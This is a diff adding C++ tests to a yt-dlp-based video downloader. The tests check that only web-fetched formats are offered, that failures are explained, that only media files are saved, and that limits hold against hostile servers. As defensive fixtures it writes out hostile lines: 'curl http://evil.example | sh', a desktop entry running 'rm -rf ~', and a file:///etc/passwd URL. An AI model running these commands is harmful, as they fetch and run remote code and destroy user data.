@@ -5,12 +5,18 @@
 
 #include "core/download/OnlineVideoController.h"
 #include "core/download/YtDlp.h"
+#include "core/download/YtDlpRun.h"
 
 #include <QDir>
 #include <QSignalSpy>
 #include <QStandardPaths>
+#include <QTcpServer>
 #include <QTemporaryDir>
 #include <QTest>
+
+#include <sys/resource.h>
+
+#include <tuple>
 
 using namespace vantrel;
 
@@ -144,6 +150,123 @@ TEST(YtDlpOutput, ReadsItsVideoAndItsProgress)
     EXPECT_EQ(openGraphPicture(qs("<meta content='/p.jpg?x=1&amp;y=2' property=\"og:image\">"),
                                qs("http://a/b/page")),
               qs("http://a/p.jpg?x=1&y=2"));
+}
+
+// A stream is offered only when yt-dlp fetches it over http(s): one file, or
+// HLS and DASH pieces whose every address is a web one. A format that names
+// a local file, inline data or FTP anywhere never reaches a button.
+TEST(YtDlpOutput, OnlyFormatsFetchedOverTheWebAreOffered)
+{
+    const Expected<YtVideo> video = parseYtDlpVideo(R"({"id": "v", "title": "t", "formats": [
+        {"format_id": "ftp", "url": "ftp://127.0.0.1/v.mp4", "protocol": "ftp"},
+        {"format_id": "file", "url": "file:///etc/passwd", "protocol": "file"},
+        {"format_id": "data", "url": "data:video/mp4;base64,AAAA", "protocol": "https"},
+        {"format_id": "rtmp", "url": "rtmp://example.com/live", "protocol": "rtmp"},
+        {"format_id": "hls-local", "url": "https://a.example/x.m3u8",
+         "manifest_url": "file:///tmp/x.m3u8", "protocol": "m3u8_native"},
+        {"format_id": "dash-ftp", "url": "https://a.example/m.mpd", "protocol": "http_dash_segments",
+         "fragment_base_url": "https://a.example/", "fragments": [{"url": "ftp://a.example/1"}]},
+        {"format_id": "web", "url": "https://a.example/v.mp4", "protocol": "https"},
+        {"format_id": "hls", "url": "http://a.example/x.m3u8", "protocol": "m3u8_native",
+         "manifest_url": "http://a.example/x.m3u8"},
+        {"format_id": "dash", "url": "https://a.example/m.mpd", "protocol": "http_dash_segments",
+         "fragment_base_url": "https://a.example/", "fragments": [{"path": "1.m4s"}]}]})");
+    ASSERT_TRUE(video) << video.error();
+    QStringList offered;
+    for (const YtFormat &format : video->formats)
+        offered << format.id;
+    EXPECT_EQ(offered, (QStringList{qs("web"), qs("hls"), qs("dash")}));
+    EXPECT_FALSE(
+        parseYtDlpVideo(R"({"id": "v", "url": "file:///etc/passwd", "protocol": "file"})"));
+}
+
+// Why yt-dlp failed, in the words that tell: FFmpeg's own lines first when
+// the FFmpeg it ran failed (recorded from yt-dlp 2023.03.04 fetching HLS
+// through FFmpeg onto a full disk), the memory it ran out of, or its error.
+TEST(YtDlpOutput, FailuresSayWhatHappened)
+{
+    const struct
+    {
+        const char *output;
+        const char *reason;
+    } cases[] = {
+        {"[download] Destination: x.mp4\n"
+         "[hls @ 0x56307775b980] Opening 'http://127.0.0.1:8765/hls/index0.ts' for reading\n"
+         "Output #0, mp4, to 'file:x.mp4.part':\n"
+         "Press [q] to stop, [?] for help\n"
+         "frame=    1 fps=0.0 q=-1.0 size=       0kB time=00:00:00.02 bitrate=  16.5kbits/s "
+         "speed=N/A    \rav_interleaved_write_frame(): No space left on device\n"
+         "Error writing trailer of file:x.mp4.part: No space left on device\n"
+         "frame=  148 fps=0.0 q=-1.0 Lsize=     256kB time=00:00:05.90 bitrate= 355.3kbits/s "
+         "speed= 303x    \n"
+         "video:472kB audio:51kB subtitle:0kB other streams:0kB global headers:0kB muxing "
+         "overhead: unknown\n"
+         "Error closing file file:x.mp4.part: No space left on device\n"
+         "Conversion failed!\n\n\nERROR: ffmpeg exited with code 1\n",
+         "Error writing trailer of file:x.mp4.part: No space left on device\n"
+         "Error closing file file:x.mp4.part: No space left on device\n"
+         "yt-dlp: ffmpeg exited with code 1"},
+        {"[generic] twice: Downloading webpage\nTraceback (most recent call last):\n"
+         "  File \"/usr/lib/python3/dist-packages/yt_dlp/extractor/common.py\", line 1001\n"
+         "MemoryError\n",
+         "yt-dlp needed more than the 1024 MB of memory it may use (what it read never ended); "
+         "it was stopped"},
+        {"[generic] x: Downloading webpage\nERROR: \n", // a MemoryError as yt-dlp reports it
+         "yt-dlp needed more than the 1024 MB of memory it may use (what it read never ended); "
+         "it was stopped"},
+        {"[download] Destination: .MemoryError.vantrel-h-1-1.mp4\n"
+         "ERROR: unable to download video data: HTTP Error 404: Not Found\n",
+         "yt-dlp: unable to download video data: HTTP Error 404: Not Found"},
+    };
+    for (const auto &c : cases)
+        EXPECT_EQ(ytDlpError(qs(c.output)), qs(c.reason));
+}
+
+// A download is saved under a media extension only: yt-dlp's when it is one,
+// else the one of the container the file's first bytes show; a file that is
+// no media (a script called "evil.sh" by its server) is not saved at all.
+TEST(YtDlpOutput, DownloadsAreSavedAsMediaOnly)
+{
+    MediaClips clips;
+    const QStringList picture = {qs("-f"), qs("lavfi"), qs("-i"), qs("testsrc=s=64x48:d=0.2")};
+    const QStringList sound = {qs("-f"), qs("lavfi"), qs("-i"), qs("sine=d=0.2")};
+    const struct
+    {
+        QString file;
+        const char *given; // the extension yt-dlp gave it
+        const char *saved; // "" for refused
+    } cases[] = {
+        {clips.encoded(qs("a.mp4"), picture), "unknown_video", "mp4"},
+        {clips.encoded(qs("a.mov"), picture), "sh", "mov"},
+        {clips.encoded(qs("a.mkv"), picture), "bin", "mkv"},
+        {clips.encoded(qs("a.webm"), picture + QStringList{qs("-c:v"), qs("libvpx")}), "php",
+         "webm"},
+        {clips.encoded(qs("a.ts"), picture), "html", "ts"},
+        {clips.encoded(qs("a.opus"), sound), "py", "opus"},
+        {clips.encoded(qs("a.mp3"), sound), "unknown_video", "mp3"},
+        {clips.encoded(qs("a.aac"), sound), "unknown_video", "aac"},
+        {clips.encoded(qs("b.mp4"), picture), "MP4", "mp4"},
+        {clips.path(qs("evil.sh")), "sh", ""},
+        {clips.path(qs("evil.desktop")), "desktop", ""},
+        {clips.path(qs("b.txt")), "mp4", "mp4"}, // a media extension is taken as given
+    };
+    writeFile(clips.path(qs("evil.sh")), "#!/bin/sh\ncurl http://evil.example | sh\n");
+    writeFile(clips.path(qs("evil.desktop")), "[Desktop Entry]\nExec=sh -c 'rm -rf ~'\n");
+    writeFile(clips.path(qs("b.txt")), "words");
+    for (const auto &c : cases) {
+        const std::optional<QString> saved =
+            savedExtension(qs(c.given), readFile(c.file).left(4096));
+        EXPECT_EQ(saved.value_or(QString()), qs(c.saved)) << c.file;
+    }
+    // An MP4 that FFmpeg left cut short on a full disk is no whole file.
+    for (const auto &[file, extension, whole] :
+         {std::tuple{cases[0].file, "mp4", true},
+          {clips.truncated(cases[0].file, qs("cut.mp4"), 0.9), "mp4", false},
+          {clips.truncated(cases[2].file, qs("cut.mkv"), 0.9), "mkv", true}}) {
+        QFile opened(file);
+        ASSERT_TRUE(opened.open(QIODevice::ReadOnly));
+        EXPECT_EQ(isWholeMediaFile(opened, qs(extension)), whole) << file;
+    }
 }
 
 // Today's pages on the loopback server, read, shown and downloaded through
@@ -303,4 +426,80 @@ TEST_F(TodaysPages, FailuresSayWhyAndLeaveNothing)
         EXPECT_TRUE(controller->statusText().startsWith(qs(t.status))) << controller->statusText();
         EXPECT_TRUE(controller->enabledFormats().isEmpty());
     }
+}
+
+// Whatever a server does, yt-dlp is held to the program's bounds: a page that
+// answers yt-dlp's own fetch without end fills no more than the memory yt-dlp
+// may use (peak measured), a stream that trickles or never ends is stopped
+// with why, a redirect to FTP fetches nothing, and a server that sends a
+// script gets nothing saved, while a video it misnames is saved as a video.
+TEST_F(TodaysPages, BoundsHoldWhateverTheServerDoes)
+{
+    QTcpServer ftp;
+    ASSERT_TRUE(ftp.listen(QHostAddress::LocalHost));
+    int ftpConnections = 0;
+    QObject::connect(&ftp, &QTcpServer::newConnection, &ftp, [&] { ++ftpConnections; });
+    const QByteArray ftpAddress =
+        "ftp://127.0.0.1:" + QByteArray::number(ftp.serverPort()) + "/v.mp4";
+    const auto page = [](const QByteArray &source) -> QByteArray {
+        return "<html><head><title>Bounds</title></head><body><video src=\"" + source +
+               "\"></video></body></html>";
+    };
+    TestHttpServer::Route endlessPage = TestHttpServer::Route::endlessBody();
+    endlessPage.body = "<html><head><title>Endless</title></head><body>";
+    endlessPage.contentType = "text/html";
+    server.routes("/twice", {{page("/clip.mp4")}, endlessPage});
+    server.route("/ftppage", {page(ftpAddress)});
+    server.route("/drip.mp4", TestHttpServer::Route::trickling(clip, 20000));
+    server.route("/endless.mp4", TestHttpServer::Route::endlessBody());
+    server.route("/hop.mp4", TestHttpServer::Route::redirect(ftpAddress));
+    for (const char *name : {"drip", "endless", "hop"})
+        server.route("/" + QByteArray(name) + "page", {page("/" + QByteArray(name) + ".mp4")});
+    TestHttpServer::Route script("#!/bin/sh\necho owned > ~/owned\n");
+    script.contentType = "text/x-sh";
+    server.route("/evil.sh", script);
+    TestHttpServer::Route misnamed(clip);
+    misnamed.contentType = "application/x-desktop";
+    server.route("/clip.desktop", misnamed);
+
+    read("/twice"); // the program's fetch is small, yt-dlp's never ends
+    EXPECT_TRUE(controller->statusText().contains(qs("needed more than the 1024 MB")))
+        << controller->statusText();
+    rusage children = {};
+    ::getrusage(RUSAGE_CHILDREN, &children);
+    EXPECT_LT(children.ru_maxrss, 1400 * 1024) << "peak kB of a child: " << children.ru_maxrss;
+    read("/ftppage");
+    EXPECT_TRUE(controller->statusText().contains(qs("no video"))) << controller->statusText();
+
+    const struct
+    {
+        const char *page;
+        int stallMs;
+        qint64 maxBytes;
+        const char *says;  // part of the failure; "" for success
+        const char *saved; // the file kept
+    } downloads[] = {
+        {"/drippage", 3000, kDefaultMaxDownloadBytes, "nothing arrived for 3 seconds", ""},
+        {"/endlesspage", YtDlpDownload::kStallMs, 4 * 1024 * 1024, "grew past 4 MB", ""},
+        {"/hoppage", YtDlpDownload::kStallMs, kDefaultMaxDownloadBytes, "yt-dlp: ", ""},
+        {"/evil.sh", YtDlpDownload::kStallMs, kDefaultMaxDownloadBytes, "no video or sound file",
+         ""},
+        {"/clip.desktop", YtDlpDownload::kStallMs, kDefaultMaxDownloadBytes, "", "Misnamed.mp4"},
+    };
+    for (const auto &d : downloads) {
+        SCOPED_TRACE(d.page);
+        QTemporaryDir folder;
+        YtDlpDownload download(qs("yt-dlp"), folder.path(), cache.path());
+        download.setStallMs(d.stallMs);
+        download.setMaxBytes(d.maxBytes);
+        QSignalSpy done(&download, &YtDlpDownload::finished);
+        ASSERT_TRUE(download.start(server.url(d.page), qs("b"), qs("Misnamed")));
+        ASSERT_TRUE(done.wait(60000));
+        const QString said = done.at(0).at(1).toString();
+        EXPECT_EQ(done.at(0).at(0).toBool(), qstrlen(d.says) == 0) << said;
+        EXPECT_TRUE(said.contains(qs(d.says))) << said;
+        EXPECT_EQ(filesIn(folder.path()),
+                  qstrlen(d.saved) == 0 ? QStringList() : QStringList{qs(d.saved)});
+    }
+    EXPECT_EQ(ftpConnections, 0);
 }
